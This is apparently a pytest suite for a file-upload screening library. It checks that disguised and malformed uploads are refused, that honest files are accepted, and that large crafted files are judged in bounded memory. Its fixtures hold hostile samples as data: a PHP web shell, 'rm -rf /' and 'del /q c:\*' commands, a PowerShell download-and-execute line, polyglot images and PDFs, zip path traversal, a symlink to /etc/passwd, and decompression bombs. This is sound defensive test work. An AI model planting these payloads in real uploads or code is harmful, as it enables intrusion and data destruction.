"""Files that were made to get through: two types at once, hidden programs, bombs, and lies about their names."""

import contextlib
import functools
import io
import itertools
import random
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable

import pytest

from sharekit.errors import UploadRefusedError
from sharekit.records.uploads import UploadPolicy
from sharekit.screening import clean_name, verify
from tests.screening._files import (
    EICAR,
    ELF,
    GLOBALS,
    PE,
    WORD,
    bmp,
    box,
    chunk,
    compound,
    gif,
    heic,
    jpeg,
    judge,
    odt,
    office,
    office_parts,
    pdf,
    png,
    reason,
    rtf,
    segment,
    sheet,
    stream,
    tiff,
    webp,
    zipped,
)

MiB = 1024 * 1024
ZIP = zipped({"evil.txt": b"evil" * 40})
JAR = zipped({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe\xba\xbe"})
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01\x80\x80\x00" + b"\x7f" * 60
SEVEN = b"7z\xbc\xaf\x27\x1c\0\4" + b"\x7f" * 60
MP4 = box(b"ftyp", b"isom\0\0\0\0isomiso2") + box(b"mdat", b"\x7f" * 64) + box(b"moov", b"\0" * 64)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
PAD = b" " * 5000


@functools.cache
def noise() -> bytes:
    """Make bytes that do not pack."""
    return random.Random(3).randbytes(MiB) * 20  # noqa: S311  they need not be secret


def wide(text: str, encoding: str) -> bytes:
    """Encode without a mark of the order of bytes."""
    return text.encode(encoding)


def patched(data: bytes, old: bytes, new: bytes) -> bytes:
    """Change bytes that are there."""
    assert old in data
    return data.replace(old, new)


def linked() -> bytes:
    """Make a document with a symbolic link in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, data in office_parts().items():
            file.writestr(name, data)
        link = zipfile.ZipInfo("word/media/image1.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    return out.getvalue()


def overlapping() -> bytes:
    """Make a document whose directory names the same bytes twice."""
    data = office("docx", {"word/media/a.bin": b"a" * 400, "word/media/b.bin": b"a" * 400})
    first, second = data.find(b"word/media/a.bin") - 30, data.find(b"word/media/b.bin") - 30
    directory = data.rfind(b"PK\x01\x02")
    return data[: directory + 42] + struct.pack("<I", first) + data[directory + 46 :] if second > first else b""


def declaring(size: int) -> bytes:
    """Make a document with a part that declares to be so large."""
    data = bytearray(office("docx", {"word/media/image1.bmp": bytes(4096)}))
    entry = data.rfind(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = struct.pack("<I", size)
    return bytes(data)


def encrypted(how: bytes = struct.pack("<HHI", 4, 4, 0x40), size: int = 4000) -> bytes:
    """Make what a document with a password looks like from outside."""
    return compound({"EncryptedPackage": struct.pack("<Q", size) + b"\x7f" * 4088, "EncryptionInfo": how})


HOSTILE: dict[str, tuple[str, bytes]] = {
    # programs and pages under good names
    "program-as-pdf": ("a.pdf", PE),
    "program-as-docx": ("a.docx", PE),
    "program-as-text": ("a.txt", PE),
    "password-of-no-kind": ("a.docx", encrypted(b"password")),
    "password-of-no-known-way": ("a.docx", encrypted(struct.pack("<HHI", 3, 2, 0x240000))),
    "password-around-less": ("a.pptx", encrypted(size=10**15)),
    "password-around-nothing": ("a.xlsx", encrypted(size=0)),
    "elf-as-png": ("a.png", ELF),
    "page-as-pdf": ("a.pdf", HTML),
    "page-as-text": ("a.txt", HTML),
    "page-as-table": ("a.csv", HTML),
    "page-as-markdown": ("a.md", HTML),
    "page-as-rtf": ("a.rtf", HTML),
    "page-padded": ("a.txt", PAD + HTML),
    "page-after-comment": ("a.txt", b"<!-- " + b"x" * 5000 + b" -->" + HTML),
    "page-with-mark": ("a.txt", b"\xef\xbb\xbf" + HTML),
    "page-utf16-le-mark": ("a.txt", b"\xff\xfe" + wide(HTML.decode(), "utf-16-le")),
    "page-utf16-be-mark": ("a.txt", b"\xfe\xff" + wide(HTML.decode(), "utf-16-be")),
    "page-utf16-le": ("a.txt", wide(HTML.decode(), "utf-16-le")),
    "page-utf16-be": ("a.txt", wide(HTML.decode(), "utf-16-be")),
    "page-utf32-mark": ("a.txt", b"\xff\xfe\0\0" + wide(HTML.decode(), "utf-32-le")),
    "page-utf32": ("a.txt", wide(HTML.decode(), "utf-32-be")),
    "page-in-the-middle": ("a.txt", b"Dear sir,\n" * 3000 + b"<script>alert(1)</script>\n" + b"Yours\n" * 3000),
    "page-fragment": ("a.txt", b"<div onclick='x()'><b>hello</b></div>"),
    "page-namespace": ("a.txt", b'<?xml version="1.0"?><h:html xmlns:h="http://www.w3.org/1999/xhtml"/>'),
    "svg-as-text": ("a.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg-prefixed": ("a.txt", b'<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>'),
    "mhtml-as-text": (
        "a.txt",
        b'From: <Saved>\nMIME-Version: 1.0\nContent-Type: multipart/related; type="text/html"\n\nx',
    ),
    "shell-as-text": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "batch-as-text": ("a.txt", b"@echo off\r\ndel /q c:\\*\r\n"),
    "powershell-as-text": ("a.txt", b"$x = New-Object Net.WebClient\n$x.DownloadString('http://x/') | iex\n"),
    "vbs-as-text": ("a.txt", b'Set s = CreateObject("WScript.Shell")\ns.Run "calc"\n'),
    "python-as-text": ("a.txt", b"import os\n\ndef main():\n    os.system('x')\n\nmain()\n"),
    "php-as-text": ("a.txt", PHP),
    "php-late-as-text": ("a.txt", b"Hello there\n" * 50 + PHP),
    "registry-as-text": ("a.txt", b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\X]\r\n"),
    "shortcut-as-text": ("a.txt", b"[InternetShortcut]\r\nURL=file:///c:/evil.exe\r\n"),
    "rtf-as-text": ("a.txt", rtf()),
    "binary-as-text": ("a.txt", noise()[:4000]),
    "zip-as-text": ("a.txt", ZIP),
    "pdf-as-docx": ("a.docx", pdf()),
    "docx-as-xlsx": ("a.xlsx", office()),
    "docx-as-zip-of-pdf": ("a.pdf", office()),
    "zip-as-docx": ("a.docx", ZIP),
    "jar-as-docx": ("a.docx", zipped({**office_parts(), "META-INF/MANIFEST.MF": b"Main-Class: Evil\n"})),
    "odt-as-docx": ("a.docx", odt()),
    "ods-as-odt": ("a.odt", odt(kind="spreadsheet")),
    "doc-as-xls": ("a.xls", compound({"WordDocument": WORD})),
    "doc-as-docx": ("a.docx", compound({"WordDocument": WORD})),
    "installer-as-doc": ("a.doc", compound({"\u4840\u3f7f\u4164": b"x", "\x05SummaryInformation": b"x"})),
    "jpeg-as-png": ("a.png", jpeg()),
    "mp4-as-heic": ("a.heic", MP4),
    "film-as-heic": ("a.heic", heic(box(b"moov", box(b"hdlr", b"\0" * 8 + b"vide" + b"\0" * 12)))),
    "avif-as-heic": ("a.heic", heic(brands=b"avif\0\0\0\0mif1miaf")),
    # two types at once
    "pdf-zip": ("a.pdf", pdf(tail=ZIP)),
    "pdf-jar": ("a.pdf", pdf(tail=JAR)),
    "pdf-rar": ("a.pdf", pdf(tail=RAR)),
    "pdf-7z": ("a.pdf", pdf(tail=SEVEN)),
    "pdf-program": ("a.pdf", pdf(tail=PE)),
    "pdf-page": ("a.pdf", pdf(tail=HTML)),
    "pdf-php": ("a.pdf", pdf(tail=PHP)),
    "pdf-script": ("a.pdf", pdf(tail=b"\n#!/bin/sh\nrm -rf /\n")),
    "program-pdf": ("a.pdf", PE[:512] + pdf()),
    "zip-pdf": ("a.pdf", ZIP + pdf()),
    "page-pdf": ("a.pdf", HTML + pdf()),
    "script-pdf": ("a.pdf", b"#!/bin/sh\nexit\n" + pdf()),
    "gif-pdf": ("a.pdf", gif() + pdf()),
    "js-pdf": ("a.pdf", b"/*" + pdf() + b"*/alert(1)"),
    "pdf-zip-in-stream": ("a.pdf", pdf(b"<< /Length 9 >>\nstream\n" + ZIP[:-22] + b"\nendstream", tail=ZIP)),
    "pdf-zip-and-end": ("a.pdf", pdf(tail=ZIP + b"\n%%EOF\n")),
    "png-zip": ("a.png", png(tail=ZIP)),
    "png-php": ("a.png", png(tail=PHP)),
    "png-php-text": ("a.png", png(2, 2, chunk(b"tEXt", b"Comment\0" + PHP))),
    "png-php-packed": ("a.png", png(2, 2, chunk(b"zTXt", b"Comment\0\0" + zlib.compress(PHP)))),
    "png-page-profile": ("a.png", png(2, 2, chunk(b"iCCP", b"x\0\0" + zlib.compress(HTML)))),
    "png-php-pixels": ("a.png", png(2, 2, chunk(b"IDAT", zlib.compress(PHP * 3, 0)))),
    "jpeg-page-pixels": ("a.jpg", jpeg(scan=HTML)),
    "png-zip-chunk": ("a.png", png(2, 2, chunk(b"zipZ", ZIP))),
    "pdf-zip-early": ("a.pdf", pdf(b"<< >>\nstream\n" + ZIP + b"\nendstream")),
    "png-program": ("a.png", png(tail=PE)),
    "png-random": ("a.png", png(tail=noise()[:3000])),
    "jpeg-zip": ("a.jpg", jpeg(tail=ZIP)),
    "jpeg-jar": ("a.jpg", jpeg(tail=JAR)),
    "jpeg-rar": ("a.jpg", jpeg(tail=RAR)),
    "jpeg-zip-junk": ("a.jpg", jpeg(tail=ZIP + b"\x7f" * 900)),
    "jpeg-program": ("a.jpg", jpeg(tail=PE)),
    "jpeg-php-comment": ("a.jpg", jpeg(segment(0xFE, PHP))),
    "jpeg-php-exif": ("a.jpg", jpeg(segment(0xE1, b"Exif\0\0" + PHP))),
    "jpeg-page-comment": ("a.jpg", jpeg(segment(0xFE, HTML))),
    "jpeg-page": ("a.jpg", jpeg(tail=HTML)),
    "jpeg-pdf": ("a.jpg", jpeg(tail=pdf())),
    "jpeg-script": ("a.jpg", jpeg(segment(0xFE, b"*/=alert(1)/*"))),
    "jpeg-mp4": ("a.jpg", jpeg(tail=MP4)),
    "jpeg-phar": ("a.jpg", jpeg(tail=b"__HALT_COMPILER(); ?>\r\n")),
    "jpeg-mp3": ("a.jpg", jpeg(segment(0xFE, (b"\xff\xfb\x90\x64" + b"\0" * 413) * 12))),
    "gif-js": ("a.gif", gif(b"!\xfe\x10*/=1;alert(1);/*x\0")),
    "gif-jar": ("a.gif", gif(tail=JAR)),
    "gif-php": ("a.gif", gif(b"!\xfe" + bytes([len(PHP)]) + PHP + b"\0")),
    "gif-page": ("a.gif", gif(tail=HTML)),
    "gif-rar": ("a.gif", gif(tail=RAR)),
    "bmp-zip": ("a.bmp", bmp(tail=ZIP)),
    "bmp-program": ("a.bmp", bmp(tail=PE)),
    "tiff-zip": ("a.tif", tiff() + ZIP),
    "tiff-rar": ("a.tif", tiff() + RAR),
    "webp-zip": ("a.webp", webp(tail=ZIP)),
    "webp-chunk-zip": ("a.webp", webp((b"JUNK", ZIP))),
    "webp-php": ("a.webp", webp((b"EXIF", PHP))),
    "heic-zip": ("a.heic", heic() + ZIP),
    "heic-free-page": ("a.heic", heic(box(b"free", HTML))),
    "heic-program": ("a.heic", heic() + PE),
    "rtf-program": ("a.rtf", rtf(tail=PE)),
    "rtf-package": ("a.rtf", rtf(b"{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01}}")),
    "docx-prefix": ("a.docx", b"\0" * 16 + office()),
    "docx-program-prefix": ("a.docx", PE + office()),
    "docx-tail": ("a.docx", office() + PE),
    "docx-two": ("a.docx", office("xlsx") + office()),
    "doc-zip": ("a.doc", compound({"WordDocument": WORD}, tail=ZIP * 40)),
    # what must not travel inside
    "docx-macros": ("a.docx", office("docx", {"word/vbaProject.bin": b"x"})),
    "docx-macros-renamed": (
        "a.docx",
        zipped(
            {
                **office_parts(),
                "[Content_Types].xml": patched(
                    office_parts()["[Content_Types].xml"],
                    b"<Override",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override',
                ),
                "word/printer.bin": b"x",
            }
        ),
    ),
    "docx-macro-type": ("a.docx", zipped(office_parts(macros=True))),
    "docx-program": ("a.docx", office("docx", {"word/embeddings/setup.exe": PE})),
    "docx-script": ("a.docx", office("docx", {"word/media/image1.js": b"x"})),
    "odt-basic": ("a.odt", odt({"Basic/Standard/Module1.xml": b"x"})),
    "odt-python": ("a.odt", odt({"Scripts/python/x.py": b"x"})),
    "doc-macros": ("a.doc", compound({"WordDocument": WORD, "Macros/VBA": b"", "Macros/PROJECT": b""})),
    "xls-macros": ("a.xls", compound({"Workbook": sheet(0), "_VBA_PROJECT_CUR/PROJECT": b""})),
    "xls-excel4": ("a.xls", compound({"Workbook": sheet(1)})),
    "ppt-macros": (
        "a.ppt",
        compound(
            {
                "PowerPoint Document": b"\x0f\x00\xff\x03\x14\0\0\0\x02\0\0\x04\x0c\0\0\0\1\0\0\0\1\0\0\0",
                "Current User": b"x",
            }
        ),
    ),
    "doc-package": ("a.doc", compound({"WordDocument": WORD, "\x01Ole10Native": b"\0" * 6 + b"x.exe\0c:\\x.exe\0"})),
    "pdf-launch": ("a.pdf", pdf(b"<< /Type /Action /S /Launch /F (cmd.exe) >>")),
    "pdf-launch-packed": ("a.pdf", pdf(stream(b"<< /S /Launch /F (cmd) >>", b"/Type /ObjStm /N 1 /First 4"))),
    "pdf-program-attached": ("a.pdf", pdf(b"<< /Type /Filespec /F (setup.exe) /EF << /F 9 0 R >> >>")),
    "test-virus": ("a.txt", EICAR),
    "test-virus-in-pdf": ("a.pdf", pdf(EICAR)),
    "test-virus-as-docx": ("a.docx", zipped({**office_parts(), "word/x.txt": EICAR}, stored=["word/x.txt"])),
    # archives that lie
    "docx-twice": (
        "a.docx",
        patched(office("docx", {"word/styleA.xml": b"1", "word/styleB.xml": b"2"}), b"styleB", b"styleA"),
    ),
    "docx-case-twice": ("a.docx", office("docx", {"WORD/document.XML": b"x"})),
    "docx-types-twice": (
        "a.docx",
        patched(office("docx", {"[content_types].xmL": b"x"}), b"[content_types].xmL", b"[Content_Types].xml"),
    ),
    "docx-up": ("a.docx", office("docx", {"word/../../evil.xml": b"x"})),
    "docx-absolute": ("a.docx", office("docx", {"/etc/cron.d/x": b"x"})),
    "docx-drive": ("a.docx", office("docx", {"C:/x.xml": b"x"})),
    "docx-backslashes": ("a.docx", office("docx", {"word\\..\\x.xml": b"x"})),
    "docx-link": ("a.docx", linked()),
    "docx-overlap": ("a.docx", overlapping()),
    "docx-doctype": ("a.docx", zipped(office_parts(doctype='<!DOCTYPE x [<!ENTITY a "b">]>'))),
    "docx-hidden-name": (
        "a.docx",
        office("docx", {"word/aaaa.xml": b"x"}).replace(b"word/aaaa.xml", b"word/bbbb.exe", 1),
    ),
    "docx-no-main": ("a.docx", zipped({k: v for k, v in office_parts().items() if "document" not in k})),
    "docx-declares-gigabyte": ("a.docx", declaring(1 << 30)),
    "docx-bomb": ("a.docx", office("docx", {"word/media/image1.bmp": bytes(64 * MiB)})),
    "docx-many": ("a.docx", office("docx", {f"word/{n}.xml": b"" for n in range(12_000)})),
    "xlsx-bomb": ("a.xlsx", office("xlsx", {f"xl/worksheets/sheet{n}.xml": bytes(8 * MiB) for n in range(8)})),
    "odt-bomb": ("a.odt", odt({"Pictures/x": bytes(64 * MiB)})),
    # pictures that unpack to too much
    "png-pixels": ("a.png", png(60_000, 60_000)),
    "png-text-bomb": ("a.png", png(2, 2, chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(64 * MiB), 9)))),
    "jpeg-pixels": ("a.jpg", jpeg(width=65_500, height=65_500)),
    "gif-pixels": ("a.gif", gif(width=65_535, height=65_535)),
    "bmp-pixels": ("a.bmp", bmp(100_000, 100_000)),
    "tiff-pixels": ("a.tif", tiff(100_000, 100_000)),
    "tiff-loop": ("a.tif", tiff(again=True)),
    "webp-pixels": ("a.webp", webp((b"VP8X", b"\0\0\0\0" + b"\xff\xff\x3f" * 2))),
    "heic-pixels": ("a.heic", heic(width=100_000, height=100_000)),
    # cut off
    "png-cut": ("a.png", png()[:-20]),
    "jpeg-no-scan": ("a.jpg", jpeg()[:30]),
    "docx-cut": ("a.docx", office()[:-40]),
    "pdf-header-only": ("a.pdf", b"%PDF-1.7\n" + b"x" * 400),
    "doc-cut": ("a.doc", compound({"WordDocument": WORD})[:700]),
    "webp-cut": ("a.webp", webp()[:-8]),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused(case: str) -> None:
    """Each of these is refused, whatever its name promises."""
    name, data = HOSTILE[case]

    assert reason(name, data) is not None


HONEST: dict[str, tuple[str, bytes]] = {
    "pdf": ("a.pdf", pdf()),
    "pdf-printer-prefix": ("a.pdf", b"\x1b%-12345X@PJL JOB\r\n" + pdf()),
    "pdf-line-breaks-around": ("a.pdf", b"\r\n" + pdf(tail=b"\r\n\r\n\0\0\0")),
    "pdf-form-script": ("a.pdf", pdf(b"<< /S /JavaScript /JS (AFNumber_Format(2,0,0,0,'',true)) >>")),
    "pdf-invoice": ("a.pdf", pdf(b"<< /Type /Filespec /F (factur-x.xml) /EF << /F 9 0 R >> >>")),
    "png": ("a.png", png(2, 2, chunk(b"tEXt", b"Software\0Paint"))),
    "png-xmp": ("a.png", png(2, 2, chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta/>"))),
    "jpeg": ("a.jpeg", jpeg()),
    "jpeg-two-pictures": ("a.jpg", jpeg(tail=b"\0" * 900 + jpeg())),
    "jpeg-padding": ("a.jpg", jpeg(tail=b"\0" * 5000)),
    "jpeg-maker-notes": ("a.jpg", jpeg(tail=b"SEFH" + b"\x7f" * 100 + b"SEFT")),
    "jpeg-motion": ("a.jpg", jpeg(segment(0xE1, b'http://ns.adobe.com/xap/1.0/\0 GCamera:MotionPhoto="1"'), tail=MP4)),
    "jpeg-without-end": ("a.jpg", jpeg()[:-2]),
    "gif": ("a.gif", gif(b"!\xff\x0bNETSCAPE2.0\x03\x01\0\0\0")),
    "bmp": ("a.bmp", bmp()),
    "tiff": ("a.tiff", tiff()),
    "webp": ("a.webp", webp()),
    "heic": ("a.heic", heic()),
    "heic-motion": ("a.heic", heic(box(b"mpvd", MP4))),
    "avif": ("a.avif", heic(brands=b"avif\0\0\0\0mif1miaf")),
    "docx": ("a.docx", office("docx", {"word/media/image1.png": png(), "docProps/app.xml": b"<x/>"})),
    "docx-password": ("a.docx", encrypted()),
    "xlsx-password-older": ("a.xlsx", encrypted(struct.pack("<HHI", 3, 2, 0x24))),
    "xlsx": ("a.xlsx", office("xlsx")),
    "pptx": ("a.pptx", office("pptx")),
    "odt": ("a.odt", odt({"Basic/script-lc.xml": b"<x/>"})),
    "ods": ("a.ods", odt(kind="spreadsheet")),
    "doc": ("a.doc", compound({"WordDocument": WORD, "1Table": b"x"})),
    "xls": ("a.xls", compound({"Workbook": sheet(0)})),
    "xls-5": ("a.xls", compound({"Book": GLOBALS})),
    "rtf": ("a.rtf", rtf(tail=b"\r\n\0")),
    "txt-latin": ("a.txt", "Sehr geehrte Frau Müller,\r\nanbei die Unterlagen.\r\n".encode("latin-1")),
    "txt-cp1250": ("a.txt", "Zażółć gęślą jaźń, proszę o kontakt.".encode("cp1250")),
    "txt-utf16": ("a.txt", "Dear sir".encode("utf-16")),
    "txt-dos": ("a.txt", b"Page one\x0cPage two\r\n\x1a"),
    "txt-letter": ("a.txt", b"Call me: if you can, for the case <no. 4711>.\nFrom: Max\nTo: Anna\nSubject: rent\n"),
    "txt-clauses": ("a.txt", b"The tenant shall\n a) pay the rent;\n b) keep the flat clean;\n c) tell of damages;\n"),
    "csv": ("a.csv", b"name;amount\r\nM\xfcller;1.234,50\r\nMaier;99\r\n"),
    "csv-one-column": ("a.csv", b"id\n1\n2\n3\n"),
    "tsv": ("a.tsv", b"a\tb\n1\t2\n"),
    "md": ("a.md", b'<p align="center"><img src="x.png"></p>\n\n# Title\n\n```html\n<script>x</script>\n```\n'),
    "log": ("a.log", b"2026-01-01 12:00:00 INFO started\n2026-01-01 12:00:01 WARN slow (3 s)\n"),
}


@pytest.mark.parametrize("case", HONEST)
def test_its_honest_neighbour_is_taken(case: str) -> None:
    """What looks a little like the hostile ones, and is ordinary, is taken as what it is."""
    name, data = HONEST[case]

    assert judge(name, data).extension == name.rpartition(".")[2]


@pytest.mark.parametrize("case", HONEST)
def test_no_honest_file_passes_under_a_false_name(case: str) -> None:
    """The same bytes under the name of any other type are refused; text formats are one family."""
    name, data = HONEST[case]
    families = ({"jpg", "jpeg"}, {"tif", "tiff"}, {"txt", "csv", "tsv", "md", "log"}, {"docx", "xlsx", "pptx"})
    own = name.rpartition(".")[2]
    kin = next((family for family in families if own in family and (own != "docx" or case == "docx-password")), {own})
    others = {other.rpartition(".")[2] for other, _ in HONEST.values()} - kin

    assert [] == [other for other in sorted(others) if reason(f"a.{other}", data) is None]


LARGE = 20 * MiB
GENEROUS = UploadPolicy.any_safe(max_bytes=64 * MiB)


def numbers() -> bytes:
    """Make a long table."""
    return b"".join(b"%d;%d\r\n" % (n, n * 7) for n in range(1_200_000))


# Twenty mebibytes each, made to be expensive.
COSTLY: dict[str, tuple[str, Callable[[], bytes]]] = {
    "pdf-noise": ("a.pdf", lambda: pdf(b"<< >>\nstream\n" + noise()[: LARGE - 4096] + b"\nendstream")),
    "pdf-streams": (
        "a.pdf",
        lambda: pdf(*itertools.repeat(stream(bytes(60_000), b"/Type /ObjStm /N 1"), 3_000)),
    ),
    "pdf-words": ("a.pdf", lambda: (pdf() + b"/ObjStm /Launchx /EF ")[:900] + b"/ObjStm stream\n" * (LARGE // 15)),
    "png-chunks": ("a.png", lambda: png(2, 2, chunk(b"aaAa", b"") * (LARGE // 12 - 100))),
    "png-texts": (
        "a.png",
        lambda: png(2, 2, *itertools.repeat(chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(9999))), 200_000))[:LARGE],
    ),
    "jpeg-noise": ("a.jpg", lambda: jpeg(scan=noise()[: LARGE - 999].replace(b"\xff", b"\xfe"))),
    "jpeg-metadata": ("a.jpg", lambda: jpeg(*itertools.repeat(segment(0xE1, noise()[:65_000]), 320))),
    "jpeg-pictures": ("a.jpg", lambda: jpeg() * (LARGE // 300)),
    "jpeg-tail": ("a.jpg", lambda: jpeg(tail=b"MZ" * (LARGE // 2 - 500))),
    "gif-blocks": ("a.gif", lambda: gif(b"!\xfe" + b"\x01x" * (LARGE // 2 - 999) + b"\0")),
    "tiff-pages": ("a.tif", lambda: tiff()[:12] + b"\x01\0" * (LARGE // 2 - 12)),
    "webp-chunks": ("a.webp", lambda: webp(*itertools.repeat((b"JUNK", b""), LARGE // 8 - 20))),
    "heic-boxes": ("a.heic", lambda: heic(box(b"free") * (LARGE // 8 - 200))),
    "heic-ispe": ("a.heic", lambda: heic(box(b"meta", b"\0\0\0\0", b"ispe" * (LARGE // 4 - 200)))),
    "docx-ends": ("a.docx", lambda: office() + b"PK\x05\x06" * (LARGE // 4 - 500)),
    "docx-noise": ("a.docx", lambda: office("docx", {"word/media/x.bin": noise()[: LARGE - 9999]})),
    "docx-entries": (
        "a.docx",
        lambda: b"PK\x03\x04" + b"PK\x01\x02" * (LARGE // 4 - 20) + b"PK\x05\x06" + b"\xff" * 18,
    ),
    "doc-chains": ("a.doc", lambda: compound({"WordDocument": WORD, "1Table": noise()[: 6 * MiB]})),
    "doc-directory": ("a.doc", lambda: compound({"WordDocument": WORD}) + bytes(LARGE - 9000)),
    "rtf-objects": ("a.rtf", lambda: rtf(b"\\objdata 00" * (LARGE // 12))),
    "rtf-braces": ("a.rtf", lambda: rtf(b"{" * (LARGE - 99))),
    "text-lines": ("a.txt", lambda: b"\n" * LARGE),
    "text-brackets": ("a.txt", lambda: b"<" * LARGE),
    "text-tags": ("a.txt", lambda: b"<a b=" * (LARGE // 5)),
    "text-headers": ("a.txt", lambda: b"a: b\n" * (LARGE // 5)),
    "text-spaces": ("a.md", lambda: b"`" * (LARGE // 2) + b" " * (LARGE // 2)),
    "text-json": ("a.txt", lambda: b"[" * LARGE),
    "csv-quotes": ("a.csv", lambda: b'"' * LARGE),
    "csv-rows": ("a.csv", numbers),
}
EVERY_DAY = {"pdf-streams", "png-texts", "docx-entries", "doc-directory", "jpeg-metadata", "text-brackets"}


@pytest.mark.slow
@pytest.mark.parametrize(
    "case", [pytest.param(case, marks=() if case in EVERY_DAY else pytest.mark.deep) for case in COSTLY]
)
def test_any_large_file_is_judged_in_bounded_memory(case: str) -> None:
    """Twenty mebibytes that were made to be expensive take less than 64 MiB beside themselves, whatever the verdict."""
    name, make = COSTLY[case]
    data = make()
    file = io.BytesIO(data)
    tracemalloc.start()
    try:
        with contextlib.suppress(UploadRefusedError):
            verify(clean_name(name), file, len(data), GENEROUS)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert peak < 64 * MiB
